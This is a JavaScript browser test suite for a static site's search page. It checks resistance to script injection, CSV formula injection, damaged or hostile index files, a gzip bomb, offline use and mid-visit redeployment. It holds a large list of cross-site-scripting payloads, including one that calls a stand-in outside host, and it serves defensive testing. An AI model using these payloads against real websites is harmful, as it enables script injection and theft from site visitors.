// Search under bad luck and bad will: files of the index that are gone, cut short, swapped or hostile, a new deployment in the middle
// of a visit, no network, and queries that are meant to run as code.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { gunzipSync, gzipSync } from "node:zlib";
import { stage, watch } from "./browser.mjs";
import { files, read } from "./hub.mjs";

const on = stage();
const manifest = JSON.parse(read("search/manifest.json"));

/** Ways to have something run, each of which would set `window.intruder`. */
const CODE = ["intruder=1", "window.intruder=1", "top['intruder']=1", "(()=>{intruder=1})()"];
const AROUND = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt >${code}</sCrIpT\n>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `"><script>${code}</script>`,
  (code) => `'><svg/onload=${code}>`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<img src=x onerror="${code}"//`,
  (code) => `<<img src onerror=${code}>`,
  (code) => `<body onload=${code}>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>">`,
  (code) => `<iframe src="javascript:parent.${code}">`,
  (code) => `<a href="javascript:${code}">a</a>`,
  (code) => `javascript:${code}`,
  (code) => ` java\tscript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  (code) => `<style>*{background:url("javascript:${code}")}</style>`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `<video><source onerror=${code}>`,
  (code) => `<object data="javascript:${code}">`,
  (code) => `<base href="javascript:/${code}//">`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `\${${code}} {{${code}}} <%= ${code} %>`,
  (code) => `{q} {n} \\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  (code) => `%3Cscript%3E${code}%3C/script%3E`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `<xss id=x tabindex=1 onactivate=${code}></xss>`,
  (code) => `"onmouseover=${code} x="`,
  (code) => `' autofocus onfocus='${code}`,
  (code) => `]]><script>${code}</script>`,
  (code) => `<!--><script>${code}</script>-->`,
  (code) => `type:"<img src=x onerror=${code}>"`,
  (code) => `-"<script>${code}</script>" "<b onclick=${code}>"`,
  (code) => `<form id=form><input name=elements onfocus=${code} autofocus></form>`,
  (code) => `\u202e<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `__proto__ constructor <button onclick=${code}>`,
];
const PAYLOADS = AROUND.flatMap((around) => [...CODE, "alert(intruder=1)", "eval('intruder=1')", "document.body.intruder=window.intruder=1", "fetch('https://elsewhere.example/'+(intruder=1))"].map(around));

async function open(path, prepare = async () => {}) {
  const context = await on.browser.newContext();
  const faults = await watch(context, on.origin);
  await prepare(context);
  const page = await context.newPage();
  await page.goto(on.origin + path, { waitUntil: "load" });
  return { page, context, faults };
}

/** What is under way when a visit ends is of no interest. */
async function leave(context) {
  await context.unrouteAll({ behavior: "ignoreErrors" });
  await context.close();
}

const status = (page) => page.locator(".found [role=status]");
const told = (page, pattern) => page.waitForFunction((source) => new RegExp(source).test(document.querySelector(".found [role=status]").textContent), pattern.source);
// A browser reports a file that is missing by itself; everything else is ours.
const ours = (faults) => faults.filter((fault) => !/Failed to load resource|: \d{3} \/search\//.test(fault));

/** A file of the index with another content behind its mark, number and generation. */
function packed(body, kind, change) {
  const bytes = gunzipSync(body);
  let at = 1;
  while (bytes[at] & 128) at += 1;
  const head = bytes.subarray(0, at + 5);
  assert.equal(String.fromCharCode(bytes[0]), kind);
  return gzipSync(Buffer.concat([head, Buffer.from(JSON.stringify(change(JSON.parse(bytes.subarray(at + 5).toString())))) ]));
}

test("queries that are meant to run are words to look for", async (t) => {
  const { page, faults } = await open("/search/");
  const box = page.getByRole("searchbox");
  const before = await page.evaluate(() => document.querySelectorAll("script, iframe, img, svg, object, base, style, form").length);
  for (const payload of PAYLOADS) {
    await box.fill(payload);
    await box.press("Enter");
    // As it was typed: beside the count, or in the offer to search for it instead of what it was corrected to.
    await page.waitForFunction(() => document.querySelector(".found").textContent.includes(`“${document.querySelector("#_q").value}”`));
    assert.match(await status(page).innerText(), /found/);
  }
  for (const payload of PAYLOADS.filter((_, i) => i % 8 === 0)) {
    await page.goto(`${on.origin}/search/?q=${encodeURIComponent(payload)}&type=${encodeURIComponent(payload)}&sort=${encodeURIComponent(payload)}&page=${encodeURIComponent(payload)}&explain=1`);
    await told(page, /found/);
  }
  assert.equal(await page.evaluate(() => document.querySelectorAll("script, iframe, img, svg, object, base, style, form").length), before);
  assert.equal(await page.evaluate(() => window.intruder), undefined);
  t.diagnostic(`${PAYLOADS.length} queries`);
  assert.ok(PAYLOADS.length >= 300);
  assert.deepEqual(faults, []);
});

test("titles, summaries, addresses, headings and labels that are meant to run are shown as text", async (t) => {
  let next = 0;
  const used = new Set();
  const payload = () => {
    const text = PAYLOADS[next++ % PAYLOADS.length];
    used.add(text);
    return text;
  };
  const prepare = async (context) => {
    await context.route("**/search/*/d/*.bin", async (route) => {
      const response = await route.fetch();
      const body = packed(await response.body(), "D", (entries) => entries.map(([id, url, , , type, , date, text]) => [id || url, `javascript:${payload()}`, payload(), payload(), type, payload().slice(0, 8), date, text]));
      await route.fulfill({ response, body });
    });
    await context.route("**/search/x/*.bin", async (route) => {
      const response = await route.fetch();
      const body = packed(await response.body(), "X", (pages) => pages.map(([key, ...sections]) => [key, ...sections.map(([, , text]) => [payload(), payload(), text.split(" ").map((word, i) => (i % 3 ? word : `${word} ${payload()}`)).join(" ")])]));
      await route.fulfill({ response, body });
    });
  };
  for (const q of ["supervision", "caseload", "social worker", "evidence", "families", "children", "guidance", "law"]) {
    const { page, context, faults } = await open(`/search/?q=${q}&page=3`, prepare);
    await told(page, /found/);
    await page.waitForLoadState("networkidle");
    const seen = await page.locator(".hits > li").evaluateAll((items) => items.map((item) => ({
      title: item.querySelector("h2").textContent,
      href: item.querySelector("h2 a").href,
      parts: [...item.querySelectorAll("*")].map((part) => part.localName),
    })));
    assert.ok(seen.length > 5);
    for (const { title, href, parts } of seen) {
      assert.ok(PAYLOADS.includes(title), title);
      assert.ok(href.startsWith(`${on.origin}/`), href);
      assert.deepEqual(parts.filter((name) => !["h2", "a", "ul", "li", "p", "mark", "time"].includes(name)), []);
    }
    assert.equal(await page.evaluate(() => window.intruder), undefined);
    assert.deepEqual(ours(faults), []);
    await leave(context);
  }
  const { page, faults } = await open("/", prepare);
  await page.locator("header input").fill("supervision");
  await page.locator("header .panel a").first().waitFor();
  assert.ok((await page.locator("header .panel li a").evaluateAll((links) => links.map((link) => link.href))).every((href) => href.startsWith(`${on.origin}/`)));
  assert.equal(await page.evaluate(() => window.intruder), undefined);
  assert.deepEqual(ours(faults), []);
  t.diagnostic(`${used.size} different texts, ${next} places`);
  assert.ok(used.size >= 300);
});

test("formulas in titles do not run in a table", async () => {
  const { page } = await open("/search/?q=caseload", (context) =>
    context.route("**/search/*/d/*.bin", async (route) => {
      const response = await route.fetch();
      const body = packed(await response.body(), "D", (entries) => entries.map(([id, url, , , ...rest], i) => [id || url, url, ["=1+1", "+1", "-1", "@x", "\t=1", 'a","=2'][i % 6], 'say "=1"\r\nER  - \r\n', ...rest]));
      await route.fulfill({ response, body });
    }),
  );
  await told(page, /found/);
  const text = async (value) => {
    const [file] = await Promise.all([page.waitForEvent("download"), page.locator(`[value=${value}]`).click()]);
    return readFileSync(await file.path(), "utf8");
  };
  const csv = await text("csv");
  const cells = [...csv.replace(/^\ufeff/, "").matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, cell]) => cell);
  assert.equal(cells.length % 5, 0);
  assert.deepEqual(cells.filter((cell) => /^\s*[=+\-@]/.test(cell)), []);
  const ris = await text("ris");
  assert.equal(ris.match(/^ER {2}- \r$/gm).length, cells.length / 5 - 1);
});

test("files of the index that are gone, cut short, swapped or something else give a message, never a list or an exception", async (t) => {
  const other = (kind, path) => files.find((file) => file.startsWith(`search/${manifest.generation}/${kind}/`) && !path.endsWith(file));
  const harm = {
    gone: (route) => route.fulfill({ status: 404, body: "" }),
    failing: (route) => route.fulfill({ status: 500, body: "" }),
    cut: async (route) => {
      const response = await route.fetch();
      const body = await response.body();
      await route.fulfill({ response, body: body.subarray(0, body.length >> 1) });
    },
    empty: (route) => route.fulfill({ status: 200, body: "" }),
    page: (route) => route.fulfill({ status: 200, contentType: "text/html", body: "<!doctype html><script>intruder=1</script>" }),
    noise: (route) => route.fulfill({ status: 200, body: gzipSync(Buffer.from(Array.from({ length: 999 }, (_, i) => (i * 7919) % 251))) }),
    bomb: (route) => route.fulfill({ status: 200, body: gzipSync(Buffer.alloc(1 << 27)) }),
  };
  let tried = 0;
  for (const kind of ["t", "d", "x", "f"]) {
    for (const [name, act] of Object.entries(harm)) {
      const { page, context, faults } = await open("/search/", (context) => context.route(`**/search/**/${kind}/*.bin`, act));
      await page.goto(`${on.origin}/search/?q=caseload${kind === "f" ? "&type=practice-guide" : ""}`);
      const where = `${kind}, ${name}`;
      if (kind === "x") {
        await told(page, /pages? found/);
        await page.getByText("Part of the search index could not be read").waitFor();
        assert.equal(await page.locator(".hits mark").count(), 0, where);
      } else {
        await told(page, /search index/);
        assert.equal(await page.locator(".hits > li").count(), 0, where);
        assert.ok(await page.getByRole("link", { name: "Everything, A to Z" }).first().isVisible(), where);
      }
      assert.deepEqual(ours(faults), [], where);
      tried += 1;
      await leave(context);
    }
  }
  // Another file of the same kind and generation in its place.
  for (const kind of ["t", "d"]) {
    const { page, context, faults } = await open("/search/", (context) =>
      context.route(`**/search/*/${kind}/*.bin`, async (route) => {
        const path = new URL(route.request().url()).pathname;
        const response = await route.fetch({ url: `${on.origin}/${other(kind, path)}` });
        await route.fulfill({ response });
      }),
    );
    await page.goto(`${on.origin}/search/?q=caseload`);
    await told(page, /damaged/);
    assert.deepEqual(ours(faults), []);
    await leave(context);
    tried += 1;
  }
  t.diagnostic(`${tried} ways`);
});

test("a visit outlives a new deployment: the manifest is read again, once, and the new index answers", async () => {
  let manifests = 0;
  const prepare = async (context) => {
    await context.route("**/search/search.js", async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replaceAll(manifest.generation, "0123456789") });
    });
    await context.route("**/search/manifest.json", async (route) => {
      manifests += 1;
      await route.continue();
    });
  };
  const { page, faults } = await open("/search/?q=caseload", prepare);
  await told(page, /pages found for “caseload”/);
  await page.locator(".hits mark").first().waitFor();
  await page.goto(`${on.origin}/`);
  manifests = 0;
  await page.locator("header input").fill("caseload");
  await page.locator("header .panel a").first().waitFor();
  assert.equal(manifests, 1);
  assert.deepEqual(ours(faults), []);
});

test("a manifest that nobody can read gives a message", async () => {
  for (const body of ["{}", "<!doctype html>", '{"format": 2}', JSON.stringify({ ...manifest, generation: "fedcba9876" })]) {
    const { page, faults } = await open("/search/", async (context) => {
      await context.route("**/search/search.js", async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: (await response.text()).replaceAll(manifest.generation, "0123456789") });
      });
      await context.route("**/search/manifest.json", (route) => route.fulfill({ status: 200, body }));
    });
    await page.goto(`${on.origin}/search/?q=caseload`);
    await told(page, /search index/);
    assert.equal(await page.locator(".hits > li").count(), 0);
    assert.deepEqual(ours(faults), []);
  }
});

test("offline, what was fetched still answers, and what was not says why", async () => {
  const { page, context, faults } = await open("/search/?q=caseload");
  await told(page, /“caseload”/);
  await page.waitForLoadState("networkidle");
  const list = await page.locator(".hits h2").allInnerTexts();
  await context.setOffline(true);
  const box = page.getByRole("searchbox");
  await box.fill("caseload ");
  await box.press("Enter");
  await page.waitForURL(/caseload\+/);
  await told(page, /“caseload/);
  assert.deepEqual(await page.locator(".hits h2").allInnerTexts(), list);
  await box.fill("zoological supervision");
  await box.press("Enter");
  await told(page, /could not be reached/);
  assert.equal(await page.locator(".hits > li").count(), 0);
  await context.setOffline(false);
  await box.press("Enter");
  await told(page, /pages? found for/);
  assert.deepEqual(ours(faults), []);
});

test("offline from the start, the page keeps its form and its ways to browse", async () => {
  const { page, faults } = await open("/search/", (context) => context.route("**/search/search.js", (route) => route.abort()));
  const said = page.locator(".box:visible", { hasText: "Search needs a script" });
  assert.equal(await said.count(), 0, "nobody has asked for anything yet");
  await page.getByRole("searchbox").focus();
  await said.waitFor();
  assert.ok(await page.getByRole("link", { name: "Everything, A to Z" }).first().isVisible());
  await page.goto(`${on.origin}/guides/`);
  await page.locator("header input").fill("caseload");
  await page.locator("header input").press("Enter");
  await page.waitForURL(/\/search\/\?q=caseload/);
  await said.waitFor();
  assert.deepEqual(ours(faults).filter((fault) => !/ERR_FAILED/.test(fault)), []);
});
